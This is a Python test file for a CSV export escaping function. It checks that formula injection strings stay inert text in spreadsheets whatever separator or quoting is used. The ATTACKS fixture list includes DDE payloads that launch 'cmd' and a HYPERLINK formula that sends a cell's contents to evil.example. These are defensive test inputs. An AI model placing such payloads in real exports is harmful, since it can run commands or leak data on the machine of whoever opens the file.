"""No spreadsheet runs what stands in a downloaded list, with whatever separator it reads it."""

import csv
import unicodedata
from decimal import Decimal
from io import StringIO

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from approvals.figures import exports
from tests import vectors

READERS = ",;\t|"
SIGNS = set("=+-@")
QUOTES = set("\"'`")
NUMBERS = (-15, Decimal("-15.50"), -0.5, 7, Decimal("1E+3"))

ATTACKS = [
    "=1+1", "+1", "-1+1", "@SUM(A1)", "＝1", "＋1", "－1", "＠SUM(A1)", "﹦1", "﹢1", "﹣1", "﹫A1", "−1", "–", "⁻1",
    "\t=1", "\r=1", "\n=1", "\r\n=1", " =1", "\u00a0=1", "\u3000=1", "\u2003=1", "\u202f=1", "\u1680=1",
    "\u200b=1", "\u200c=1", "\u200d=1", "\u2060=1", "\ufeff=1", "\u00ad=1", "\u202e=1", "\u2066=1", "\u180e=1",
    "\u2800=1", "\u3164=1", "\uffa0=1", "\ufe0f=1", "\u034f=1", "\x00=1", "\x01=1", "\x1b=1", "\x7f=1", "\U000e0020=1",
    '"=1', "'=1", '""=1', "“=1", "«=1", "`=1", ' \u200b"\ufeff =1',
    "a;=1", "a\t=1", "a|=1", "a,=1", "a\n=1", "a\r=1", "a\r\n=1", "a\u2028=1",
    "a\x0b=1", "a\x0c=1", "a\x85=1", "a\x1e=1",
    "a；＝1", "a،=1", "a;\u200b=1", "a; =1", 'a;"=1', 'a";"=1', 'a";=1;"', "a;;;=1",
    "a;\t=1", ";=1", '"\n"=1', 'a,"=1',
    "x;-1+cmd|' /C calc'!A0", "x|@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/"&A1;"me")',
]  # fmt: skip


def first_seen(text: str) -> str:
    """What a spreadsheet sees first, once it has left out what is not seen, and quotes."""
    unseen = "\u034f\u115f\u1160\u17b4\u17b5\u2800\u3164\uffa0"
    for sign in text:
        is_unseen = unicodedata.category(sign) in {"Zs", "Zl", "Zp", "Cc", "Cf"} or sign in unseen
        if not is_unseen and not "\ufe00" <= sign <= "\ufe0f" and sign not in QUOTES - {"'"} | set("“”„‟«»‹›"):
            return unicodedata.normalize("NFKC", sign)[:1]
    return ""


def formulas(written: str) -> list[str]:
    """Return the cells that begin a formula, whichever separator the file is read with, quotes minded or not."""
    content = exports._written([["before", written, "after"]])
    found = []
    for separator in READERS:
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            lines = content if quoting == csv.QUOTE_MINIMAL else content.replace("\r", "\n")
            reader = csv.reader(StringIO(lines, newline=""), delimiter=separator, quoting=quoting)
            found += [one for row in reader for one in row if first_seen(one) in SIGNS]
    return found


@pytest.mark.parametrize("attack", ATTACKS, ids=ascii)
def test_an_attack_is_text_in_every_country(attack):
    assert formulas(exports.cell(attack)) == []
    assert exports.cell(attack) != attack.replace("\x00", "") or formulas(attack) == []


def test_published_injections_are_text_in_every_country():
    rows = (vectors.folder("naughty") / "csv_injection.txt").read_text().splitlines()
    assert len(rows) > 10
    for row in rows:
        for dressed in (row, f"\u200b{row}", f"Sale; {row}", f"Sale\t\ufeff{row}", f"Sale\n{row}", f'"{row}'):
            assert formulas(exports.cell(dressed)) == []


@settings(max_examples=1000)
@given(st.text(st.sampled_from("=+-@＝﹣;,|\t\n\r\"' \u200b\ufeff\u00a0\u3000\u2028a1"), max_size=12))
@example('\n\t"=')
def test_no_mixture_is_a_formula(text):
    assert formulas(exports.cell(text)) == []


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_stay_numbers(number):
    assert Decimal(exports.cell(number)) == Decimal(str(number))


@pytest.mark.parametrize("value", [float("-inf"), float("nan"), Decimal("-Infinity")])
def test_what_is_no_number_is_text(value):
    assert formulas(exports.cell(value)) == []


@pytest.mark.parametrize(
    "text", ["Move $4,000 to Social; keep the rest", "CPA down -15 %", "a=1", "e-mail", "für März", "1, 2, 3"]
)
def test_plain_text_stays_as_it_is(text):
    assert exports.cell(text) == text
